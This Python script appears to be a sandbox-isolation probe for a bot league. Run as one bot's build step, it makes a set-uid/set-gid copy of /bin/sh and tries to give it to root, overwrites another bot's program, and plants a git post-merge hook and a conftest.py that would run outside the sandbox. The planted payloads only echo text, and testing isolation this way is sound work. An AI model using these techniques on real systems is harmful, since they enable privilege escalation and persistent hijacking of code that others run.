#!/usr/bin/env python3
"""Attack, as a bot's *build*: gain root's privileges and rewrite the bots' shared folder.

Argument: ``VICTIM``, another bot's program in the same folder.  The build
(run in the bots' shared folder, as a league's ``build:``) notes its uid, makes
``suid_prog`` (a copy of ``/bin/sh``) set-uid and set-gid and tries to give it to
root, overwrites VICTIM, and plants ``.git/hooks/post-merge`` and
``tests/conftest.py`` (code a later ``git pull`` or ``pytest`` would run outside any
sandbox).  It writes what it did to ``build_report.json`` in the folder it ran in,
for the bot (``runs_built.py``) to report.
"""

import json
import os
import shutil
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from _common import outcome

VICTIM = sys.argv[1]
PLANTED = "#!/bin/sh\necho planted by a bot's build\n"


def make_suid() -> None:
    shutil.copy("/bin/sh", "suid_prog")
    os.chown("suid_prog", 0, 0)
    os.chmod("suid_prog", 0o6755)


def suid_fallback() -> None:  # without root: still set-id, as its own user
    if not os.path.exists("suid_prog"):
        shutil.copy("/bin/sh", "suid_prog")
    os.chmod("suid_prog", 0o6755)


def rewrite_victim() -> None:
    with open(VICTIM, "w") as f:
        f.write("import sys\nsys.exit(3)\n")


def plant(path: str) -> None:
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(PLANTED)


found = {
    "uid": os.getuid(),
    "euid": os.geteuid(),
    "suid_root": outcome(make_suid),
    "suid": outcome(suid_fallback),
    "victim": outcome(rewrite_victim),
    "hook": outcome(lambda: plant(".git/hooks/post-merge")),
    "conftest": outcome(lambda: plant("tests/conftest.py")),
}
with open("build_report.json", "w") as f:
    json.dump(found, f)
print(json.dumps(found))
